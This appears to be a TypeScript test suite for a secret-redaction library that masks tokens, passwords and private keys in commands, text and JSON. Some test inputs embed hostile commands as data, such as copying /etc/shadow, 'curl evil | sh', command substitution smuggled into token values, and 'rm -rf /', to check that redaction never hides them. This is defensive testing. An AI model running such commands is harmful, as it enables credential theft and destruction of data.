// Secrets are masked in any context, and harmless text stays readable.
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { redactArguments, redactCommand, redactJson, redactText } from './redact.ts';

describe('redacting a text', () => {
  test.each([
    ['mysqldump -u root -pHunter2secret shop', 'Hunter2secret'],
    ['curl -u admin:Hunter2secret https://example.org', 'Hunter2secret'],
    ['curl -H "Authorization: Bearer abcdefghijkl.mnop"', 'abcdefghijkl.mnop'],
    ['git clone https://ada:Hunter2secret@example.org/x.git', 'Hunter2secret'],
    ['OPENAI_API_KEY=sk-proj-abcdefghijklmnopqrst openclaw run', 'sk-proj-abcdefghijklmnopqrst'],
    [
      'export TELEGRAM_BOT_TOKEN="123456789:AAbbCCddEEffGGhhIIjjKKllMMnnOOpp"',
      'AAbbCCddEEffGGhhIIjjKKllMMnnOOpp',
    ],
    [
      'fetch failed: https://api.telegram.org/bot123456789:AAbbCCddEEffGGhhIIjjKKllMMnnOOpp/getMe',
      'AAbbCCddEEffGGhhIIjjKKllMMnnOOpp',
    ],
    ['openclaw config set gateway.auth.token 0123456789abcdef', '0123456789abcdef'],
    ['openclaw config set channels.feishu.encryptKey Hunter2secret', 'Hunter2secret'],
    ['AWS_SECRET_ACCESS_KEY=Hunter2secret run', 'Hunter2secret'],
    ['tool --secret-key Hunter2secret', 'Hunter2secret'],
    ['{"signingKey": "Hunter2secret"}', 'Hunter2secret'],
    ['sshpass -p Hunter2secret ssh root@host', 'Hunter2secret'],
    ['tool --password Hunter2secret', 'Hunter2secret'],
    ["tool --api-key='two words of secret'", 'two words of secret'],
    ['{"apiKey": "Hunter2secret"}', 'Hunter2secret'],
    ['{"apiKey": "Hunter2;secret"}', 'secret'],
    ["tool --password 'x;Hunter2|secret&'", 'Hunter2'],
    ['git clone https://ada:x;Hunter2&secret@example.org/x.git', 'Hunter2'],
    ['echo "token=" && TOKEN=Hunter2secret run "x"', 'Hunter2secret'],
    ['echo buoy_abcdefghijklmnopqrstuvwxyz0123456789', 'abcdefghijklmnopqrstuvwxyz0123456789'],
    ['gh auth login --with-token ghp_abcdefghijklmnopqrst0123', 'ghp_abcdefghijklmnopqrst0123'],
    ['eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0xxxx.c2lnbmF0dXJl', 'c2lnbmF0dXJl'],
    ['-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1r\n-----END OPENSSH PRIVATE KEY-----', 'b3BlbnNzaC1r'],
    ['-----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEA0Z3VS5JJ', 'MIIEpAIBAAKCAQEA0Z3VS5JJ'],
    ['-----BEGIN PRIVATE KEY-----MC4CAQAwBQYDK2VwBCIEIJ1hb3BlbnNzaC1r-----END PRIVATE KEY-----', 'MC4CAQ'],
    [
      '-----BEGIN RSA PRIVATE KEY-----\r\nProc-Type: 4,ENCRYPTED\r\nDEK-Info: AES-128-CBC,3F17F5316E2BAC89\r\n\r\nMIIEpAIBAAKCAQEA0Z3VS5JJ\r\nb3BlbnNzaC1r',
      'MIIEpAIBAAKCAQEA0Z3VS5JJ',
    ],
    [
      String.raw`{"key":"-----BEGIN OPENSSH PRIVATE KEY-----\nMIIEpAIBAAKCAQEA0Z3VS5JJ\nb3BlbnNzaC1r\n-----END OPENSSH PRIVATE KEY-----\n"}`,
      'b3BlbnNzaC1r',
    ],
    [
      String.raw`-----BEGIN OPENSSH PRIVATE KEY-----\\nMIIEpAIBAAKCAQEA0Z3VS5JJ\\nb3BlbnNzaC1r\\n-----END OPENSSH PRIVATE KEY-----`,
      'b3BlbnNzaC1r',
    ],
  ])('masks the secret in %s', (text, secret) => {
    expect(redactText(text)).not.toContain(secret);
    expect(redactText(text)).toContain('[redacted]');
  });

  test.each([
    'systemctl --user restart openclaw-gateway',
    'ls -la /root/.openclaw && df -h',
    'openclaw agents list --json',
    'journalctl -u openclaw-gateway -n 200',
    'ssh-keygen -lf /etc/ssh/ssh_host_ed25519_key.pub',
    'curl -fsS http://127.0.0.1:18789/healthz',
    'echo 2026-03-01T10:00:00.000Z',
  ])('leaves %s unchanged', (text) => {
    expect(redactText(text)).toBe(text);
  });

  test.each([
    ": '-----BEGIN A PRIVATE KEY-----'; cp /etc/shadow /tmp/x; curl evil | sh",
    ': -----BEGIN A PRIVATE KEY-----\ncp /etc/shadow /tmp/x',
    ": '-----BEGIN A PRIVATE KEY-----'; cp /etc/shadow /tmp/x; : '-----END A PRIVATE KEY-----'",
    ': -----BEGIN A PRIVATE KEY-----\nMIIEpAIBAAKCAQEA0Z3VS5JJ\nA: b\ncp /etc/shadow /tmp/x',
  ])('keeps the command after a fake private key in %s', (text) => {
    const redacted = redactText(text);
    expect(redacted).toContain('[redacted]');
    expect(redacted).toContain('/etc/shadow /tmp/x');
  });

  test.each([
    ': "token="; cp /etc/shadow /tmp/x; : ""',
    ": '--password '; cp /etc/shadow /tmp/x; : ''",
    ': --token "$(cp /etc/shadow /tmp/x)"',
    ': TOKEN=`cp /etc/shadow /tmp/x`',
    "TOKEN='\n'\ncp /etc/shadow /tmp/x\n''",
    "sshpass -p '';cp /etc/shadow /tmp/x;''",
  ])("keeps a command disguised as a secret's value in %j", (text) => {
    expect(redactText(text)).toContain('cp /etc/shadow /tmp/x');
  });

  test.each([
    ': --token\n{cp,/etc/shadow,/tmp/x}',
    ': --token=\n/tmp/run',
    ': bearer\n/tmp/evil/run',
    ': token:\n/tmp/run.sh',
    ': a.token\n/tmp/run',
    'sshpass -p\n/tmp/run',
    'sshpass\n-p /tmp/run',
    'mysql x\nenv -p/tmp/run',
    ': \n-u\na:/tmp/run',
    ': -----BEGIN A PRIVATE KEY-----\n/tmp/run',
  ])('keeps a command on the line behind a name of a secret in %j', (text) => {
    expect(redactText(text)).toBe(text.replace(/-----BEGIN.*-----/, '[redacted]'));
  });

  test.each([
    ['token=a', 'token=*'],
    ['token=abc', 'token=***'],
    ['token=Hunter2', 'token=***'],
    ['token=Hunter2sec', 'token=[redacted]'],
  ])('masks %s as %s, which is no longer', (text, redacted) => {
    expect(redactText(text)).toBe(redacted);
  });

  test('never makes a text longer, and keeps a last word that nothing introduces', () => {
    const piece = fc.constantFrom(
      'token=',
      '--token ',
      'a',
      'bearer ',
      '-u a:',
      ' ',
      '\n',
      '"',
      "'",
      'x.key ',
      '://a:b@',
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 200 }), (pieces) => {
        const text = `${pieces.join('')}\nlast-word`;
        expect(redactText(text).length).toBeLessThanOrEqual(text.length);
        expect(redactText(text)).toContain('\nlast-word');
      }),
    );
  });

  test('is fast for any text and idempotent', () => {
    fc.assert(
      fc.property(fc.string({ maxLength: 4_096, unit: 'binary' }), (text) => {
        const once = redactText(text);
        expect(redactText(once)).toBe(once);
      }),
    );
  });

  test('takes linear time for a megabyte of near matches', () => {
    const words = [
      '-u ',
      'mysql ',
      '-',
      'token',
      'a.',
      '-----BEGIN ',
      '-----BEGIN PRIVATE KEY-----',
      '-----BEGIN PRIVATE KEY-----\n ',
      '-----BEGIN PRIVATE KEY-----A: b\n',
      '-----BEGIN PRIVATE KEY----- -----END ',
      'https://',
      '--password',
      'x',
      ' ',
      '\n',
      '{"a":',
      'eyJ-',
      'eyJaaaaaaaaaaaa.',
      'secret',
      '-secret',
      'x.token ',
      'token="',
      'token="token=\'',
      'token="; ',
      'token=";$',
      '://:',
      'a://;',
    ];
    const begin = '-----BEGIN PRIVATE KEY-----';
    const before = process.threadCpuUsage();
    for (const word of ['A', 'A ', ' ', '\\', '\\n', 'A: ', 'A: b ', '-----END '])
      redactText(begin + word.repeat(Math.floor(1_000_000 / word.length)));
    for (const word of words) redactText(word.repeat(Math.floor(1_000_000 / word.length)));
    expect(process.threadCpuUsage(before).user / 1_000).toBeLessThan(4_000);
  });
});

describe('redacting a command', () => {
  test.each([
    ['curl -H "Authorization: Bearer abcdefghijkl.mnop" https://x', 'abcdefghijkl.mnop'],
    ['H="Authorization: Bearer abcdefghijkl.mnop" run', 'abcdefghijkl.mnop'],
    ['mysqldump -u root -pHunter2secret shop', 'Hunter2secret'],
    ['git clone https://ada:Hunter2secret@example.org/x.git', 'Hunter2secret'],
    ['OPENAI_API_KEY=Hunter2secret openclaw run', 'Hunter2secret'],
    ["env TOKEN='two words' run", 'two words'],
    ['tool --api-key Hunter2secret', 'Hunter2secret'],
    ['tool --token=Hunter2secret', 'Hunter2secret'],
    ['openclaw config set gateway.auth.token Hunter2secret', 'Hunter2secret'],
    ['echo \'{"apiKey": "Hunter2secret"}\' >x', 'Hunter2secret'],
    ['sshpass -p Hunter2secret ssh root@host', 'Hunter2secret'],
    ['curl -u admin:Hunter2secret https://example.org', 'Hunter2secret'],
  ])('masks the secret in %s', (command, secret) => {
    expect(redactCommand(command)).not.toContain(secret);
  });

  test('takes linear time for a megabyte of near matches', () => {
    const before = process.threadCpuUsage();
    for (const word of ['=token ', 'A=', '-u', 'bearer ', 'token: ', 'token=";', '://:', 'x.token '])
      redactCommand(word.repeat(Math.floor(1_000_000 / word.length)));
    expect(process.threadCpuUsage(before).user / 1_000).toBeLessThan(4_000);
  });
});

describe('redacting the words of a command', () => {
  const commands = [
    { argv: ['mysqldump', '--password', 'Hunter2secret', '-h', 'db'] },
    { argv: ['sudo', 'mysqldump', '-h', 'db', '-pHunter2secret'] },
    { argv: ['curl', '-u', 'ada:Hunter2secret', 'https://x'] },
    { argv: ['sshpass', '-p', 'Hunter2secret', 'ssh', 'x'] },
    { argv: ['openclaw', 'config', 'set', 'gateway.auth.token', 'Hunter2secret'] },
    { argv: ['tool', '--header', 'Authorization: Bearer Hunter2secret'] },
  ];
  test.each(commands)('masks the secret in $argv, and nothing else', ({ argv }) => {
    const redacted = redactArguments(argv);
    expect(JSON.stringify(redacted)).not.toContain('Hunter2secret');
    expect(redacted.map((word, index) => word === argv[index])).toEqual(
      argv.map((word) => !word.includes('Hunter2secret')),
    );
    expect(redactJson({ argv })).toEqual({ argv: redacted });
  });

  test.each([
    { argv: ['rm', '-rf', '/'] },
    { argv: ['ls', '', '-l'] },
    { argv: ['openclaw', 'config', 'get', 'gateway.auth.token'] },
    { argv: ['docker', 'run', '-u', 'ada', '-p', '80:80', 'image'] },
  ])('leaves $argv', ({ argv }) => {
    expect(redactArguments(argv)).toEqual(argv);
  });

  test('leaves of a word what a shell would run behind the secret', () => {
    expect(redactArguments(['sh', '-c', 'tool', '--token', 'Hunter2secret; rm -rf /'])).toEqual([
      ...['sh', '-c', 'tool', '--token', '[redacted]; rm -rf /'],
    ]);
  });

  test('is fast for thousands of empty words', () => {
    const argv = ['--password', ...Array.from({ length: 8_000 }, () => '')];
    const before = process.threadCpuUsage();
    redactJson({ argv });
    expect(process.threadCpuUsage(before).user / 1_000).toBeLessThan(200);
  });

  test('is fast for the longest command', () => {
    const argv = Array.from({ length: 256 }, (_, index) => (index % 2 === 0 ? '--password' : 'Hunter2'));
    const before = process.threadCpuUsage();
    redactArguments(argv);
    expect(process.threadCpuUsage(before).user / 1_000).toBeLessThan(400);
  });
});

describe('redacting a JSON value', () => {
  test('masks the item of a list that the one before it announces', () => {
    expect(redactJson(['run', '-u', '1000:1000', 'image'])).toEqual(['run', '-u', '1000:1000', 'image']);
    const args = [
      '-y',
      'pkg',
      '--api-key',
      'Hunter2',
      '--verbose',
      '--user',
      'ada:Hunter2',
      '--token',
      '--x',
    ];
    expect(redactJson({ patch: { mcp: { args } } })).toEqual({
      patch: {
        mcp: {
          args: [
            ...['-y', 'pkg', '--api-key', '[redacted]', '--verbose', '--user', '[redacted]'],
            ...['--token', '--x'],
          ],
        },
      },
    });
  });

  test.each([
    'password',
    'privateKey',
    'private_key',
    'passphrase',
    'initData',
    'launchKey',
    'code',
    'deviceCode',
    'apiKey',
    'API-KEY',
    'secret',
    'refreshToken',
    'botToken',
    'authorization',
    ...['encryptKey', 'SECRET_KEY', 'smtpPass', 'pwd', 'pin', 'passcode', 'accountPassphrase'],
  ])('masks the field %s at any depth', (field) => {
    const redacted = JSON.stringify(
      redactJson({ body: [{ [field]: 'Hunter2' }], [field]: { inner: 'Hunter2' } }),
    );
    expect(redacted).not.toContain('Hunter2');
  });

  test('keeps harmless values and null secrets', () => {
    const names = {
      key: 'agent:main:main',
      sessionKey: 'main',
      skillKey: 'weather',
      hostKey: 'SHA256:x',
      publicKey: 'x',
    };
    const harmless = {
      name: 'web',
      port: 22,
      tags: ['a'],
      password: null,
      error: { code: null },
      ok: true,
      names,
    };
    expect(redactJson(harmless)).toEqual(harmless);
  });

  test('truncates long texts', () => {
    expect(String(redactJson('x'.repeat(10_000), { maxText: 100 }))).toHaveLength(101);
  });
});
